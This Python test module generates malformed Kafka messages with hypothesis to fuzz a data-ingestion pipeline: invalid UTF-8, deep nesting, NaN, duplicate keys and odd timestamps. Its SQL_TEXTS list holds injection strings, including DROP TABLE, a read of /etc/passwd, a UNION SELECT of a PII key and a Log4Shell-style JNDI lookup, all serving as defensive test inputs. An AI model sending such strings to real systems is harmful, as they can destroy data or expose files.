"""Generated bad input for the ingestion fuzzer: hypothesis draws mutation recipes, Python
turns each into the bytes of one Kafka message (built as text, so that payloads no JSON encoder
writes — invalid UTF-8, duplicate keys, NaN, 5,000 levels of nesting — can be sent too).

A recipe is small (a kind, a field, a variant number), so hypothesis draws tens of thousands
quickly; the bytes (up to 1 MB strings) are built from it outside hypothesis' buffer.
"""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from testkit import SEED_EVENTS

from ingestion.contracts import contract

# Payload kinds; "valid" (the event only given a unique id) keeps a share landing in raw/silver.
KINDS = (
    "valid",
    "valid",
    "sql_text",
    "control_chars",
    "wrong_type",
    "huge_number",
    "nan_infinity",
    "deep_nesting",
    "invalid_utf8",
    "big_string",
    "duplicate_key",
    "drop_field",
    "add_field",
    "odd_timestamp",
    "truncated",
    "not_an_object",
    "bad_kafka_key",
)

SQL_TEXTS = (
    "'; DROP TABLE raw_orders; --",
    "' OR 1=1 --",
    '" OR ""="',
    "1; SELECT * FROM read_csv('/etc/passwd')",
    "x' UNION SELECT pii_key FROM settings --",
    "$$; COPY (SELECT 1) TO '/tmp/x' $$",
    "{{ config(materialized='table') }}",
    "${jndi:ldap://example.invalid/a}",
    "\\'; --",
    "Robert'); DELETE FROM silver_orders WHERE ('1'='1",
)
CONTROL_TEXTS = (
    "a\u0000b",
    "\u0001\u0002\u0003",
    "tab\there",
    "line\nbreak\r",
    "\u001b[31mred",
    "\u007f\u0085\u2028\u2029",
    "\ufeffbom",
    "\ud7ff\ue000",
)
# raw number tokens (JSON text), several beyond what a lake column holds
HUGE_NUMBERS = (
    "1e30",
    "-1e30",
    "9223372036854775808",
    "18446744073709551616",
    "123456789012345678901234567890",
    "-9223372036854775809",
    "1e308",
    "1e400",
    "-1e400",
    "5e-324",
    "-0.0",
    "1.0000000000000000000001",
)
NON_FINITE = ("NaN", "Infinity", "-Infinity", "nan", "inf")
ODD_TIMESTAMPS = (
    "9999-12-31T23:59:59Z",
    "0001-01-01T00:00:00Z",
    "2025-02-29T12:00:00Z",
    "2024-12-31T23:59:60Z",
    "2025-08-16T12:10:00+14:00",
    "2025-08-16T12:10:00.123456789012Z",
    "2025-08-16 12:10:00",
    "2025-08-16T12:10:00",
    "16/08/2025",
    "",
    "2025-08-16T25:00:00Z",
    "+002025-08-16T12:10:00Z",
)
INVALID_UTF8 = (
    b"\xff\xfe",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xe2\x82",
    b"\x80",
    b"\xf8\x88\x80\x80\x80",
)
NOT_OBJECTS = (b"[]", b"[1, 2]", b"null", b"42", b'"text"', b"true", b"", b"{", b"}", b"\x00")


@dataclass(frozen=True)
class Recipe:
    kind: str
    field: int  # index into the event's fields (modulo their count)
    variant: int  # which value of the kind's list, or a size


recipes = st.builds(
    Recipe,
    kind=st.sampled_from(KINDS),
    field=st.integers(0, 63),
    variant=st.integers(0, 1 << 16),
)


def draw_recipes(n: int, seed_batch: int = 1_000) -> list[Recipe]:
    """`n` recipes drawn by hypothesis (derandomized: the same corpus on every run), in
    examples of `seed_batch` recipes so that hypothesis' per-example overhead stays small."""
    collected: list[Recipe] = []

    @settings(
        max_examples=(n + seed_batch - 1) // seed_batch + 3,
        derandomize=True,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(st.lists(recipes, min_size=seed_batch, max_size=seed_batch))
    def collect(batch: list[Recipe]) -> None:
        # hypothesis starts from its simplest examples (nearly every recipe "valid"): skip
        # examples dominated by one kind, so every slice of the corpus is mixed
        if Counter(r.kind for r in batch).most_common(1)[0][1] <= len(batch) // 4:
            collected.extend(batch)

    collect()
    assert len(collected) >= n, len(collected)
    return collected[:n]


def _dumps(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False)


def _replace(event: dict[str, Any], name: str, token: str) -> str:
    """The event's JSON text with field `name`'s value replaced by the raw token `token`."""
    marker = "\u0000@@FUZZ@@\u0000"
    text = _dumps({**event, name: marker})
    return text.replace(_dumps(marker), token)


def _string_fields(event: dict[str, Any]) -> list[str]:
    return [k for k, v in event.items() if isinstance(v, str)] or list(event)


def _number_fields(event: dict[str, Any]) -> list[str]:
    found = [k for k, v in event.items() if isinstance(v, (int, float)) and not isinstance(v, bool)]
    return found or list(event)


def base_event(topic: str, i: int) -> dict[str, Any]:
    """The topic's seed event with its identifying fields made unique to payload `i`."""
    event = json.loads(json.dumps(SEED_EVENTS[topic]))
    for name in contract(topic).key_fields:
        if isinstance(event.get(name), str) and not event[name][:2].isdigit():  # not a time
            event[name] = f"{event[name]}_{i}"
    if topic == "social_raw":  # distinct texts: the preprocessing drops repeated posts as spam
        event["text"] = f"{event['text']} #{i}"
    return event


def payload(topic: str, i: int, recipe: Recipe) -> tuple[bytes | None, bytes | None]:
    """(Kafka key, value) of payload `i` of `topic` built from `recipe`."""
    event = base_event(topic, i)
    fields = list(event)
    name = fields[recipe.field % len(fields)]
    v = recipe.variant
    key: bytes | None = contract(topic).key_of(event).encode()
    text: str | None = None
    raw: bytes | None = None
    kind = recipe.kind
    if kind == "valid":
        text = _dumps(event)
    elif kind == "sql_text":
        target = _string_fields(event)[recipe.field % len(_string_fields(event))]
        text = _dumps({**event, target: SQL_TEXTS[v % len(SQL_TEXTS)]})
        if v % 3 == 0:  # and in the Kafka key
            key = SQL_TEXTS[v % len(SQL_TEXTS)].encode()
    elif kind == "control_chars":
        target = _string_fields(event)[recipe.field % len(_string_fields(event))]
        value = CONTROL_TEXTS[v % len(CONTROL_TEXTS)]
        if v % 4 == 0:  # unescaped control bytes inside a JSON string: not JSON
            text = _replace(event, target, '"' + value + '"')
        else:
            text = _dumps({**event, target: value})
    elif kind == "wrong_type":
        others: list[Any] = [None, True, 0, -1, 2.5, "", "7", [], [1, "a"], {}, {"a": {"b": 1}}]
        text = _dumps({**event, name: others[v % len(others)]})
    elif kind == "huge_number":
        target = _number_fields(event)[recipe.field % len(_number_fields(event))]
        text = _replace(event, target, HUGE_NUMBERS[v % len(HUGE_NUMBERS)])
    elif kind == "nan_infinity":
        target = _number_fields(event)[recipe.field % len(_number_fields(event))]
        text = _replace(event, target, NON_FINITE[v % len(NON_FINITE)])
    elif kind == "deep_nesting":
        depth = (20, 200, 2_000, 5_000)[v % 4]
        opener, closer = ("[", "]") if v % 2 else ('{"a":', "}")
        text = _replace(event, name, opener * depth + "1" + closer * depth)
    elif kind == "invalid_utf8":
        target = _string_fields(event)[recipe.field % len(_string_fields(event))]
        bad = INVALID_UTF8[v % len(INVALID_UTF8)]
        raw = _replace(event, target, '"@@BAD@@"').encode().replace(b"@@BAD@@", b"ok" + bad)
    elif kind == "big_string":
        # 1 MB (beyond the payload limit), just under the limit, or beyond any maxLength
        size = (1_000_000, 200_000, 70_000, 300, 10_001)[v % 5] if v % 4 == 0 else 65 + v % 5_000
        target = _string_fields(event)[recipe.field % len(_string_fields(event))]
        text = _dumps({**event, target: chr(0x61 + v % 26) * size})
    elif kind == "duplicate_key":
        first = _dumps({**event, name: "dup"})
        text = first[:-1] + ", " + _dumps(name) + ": " + _dumps(event[name]) + "}"
    elif kind == "drop_field":
        text = _dumps({k: x for k, x in event.items() if k != name})
    elif kind == "add_field":
        extra = ("extra", "__proto__", "", "customer_id ", "ÉTÉ", "a.b")[v % 6]
        text = _dumps({**event, extra: v})
    elif kind == "odd_timestamp":
        stamps = [k for k, x in event.items() if isinstance(x, str) and x[:2] in ("20", "19")]
        target = stamps[recipe.field % len(stamps)] if stamps else name
        text = _dumps({**event, target: ODD_TIMESTAMPS[v % len(ODD_TIMESTAMPS)]})
    elif kind == "truncated":
        whole = _dumps(event).encode()
        raw = whole[: max(1, v % len(whole))]
    elif kind == "not_an_object":
        raw = NOT_OBJECTS[v % len(NOT_OBJECTS)]
        if v % 7 == 0:
            raw = None  # a tombstone
    elif kind == "bad_kafka_key":
        text = _dumps(event)
        key = (None, b"", b"\xff\xfe", b"k" * 10_000)[v % 4]
    else:  # pragma: no cover - KINDS lists every kind
        raise AssertionError(kind)
    value = (
        raw if raw is not None or kind in ("not_an_object", "truncated", "invalid_utf8") else None
    )
    if value is None and text is not None:
        value = text.encode("utf-8", "surrogatepass")
    return key, value


def corpus(topic: str, n: int) -> tuple[list[tuple[bytes | None, bytes | None]], list[str]]:
    """`n` (key, value) messages for `topic` and the kind of each."""
    drawn = draw_recipes(n)
    return [payload(topic, i, r) for i, r in enumerate(drawn)], [r.kind for r in drawn]


# kinds whose every payload must be refused, whatever field the recipe picked
ALWAYS_REFUSED: dict[str, Callable[[str], bool]] = {
    "invalid_utf8": lambda reason: reason == "payload is not valid UTF-8",
    "nan_infinity": lambda reason: bool(reason),
    "deep_nesting": lambda reason: bool(reason),
    "duplicate_key": lambda reason: "duplicate" in reason,
    "truncated": lambda reason: (
        reason in ("invalid JSON", "payload is not a JSON object", "payload is not valid UTF-8")
    ),
}
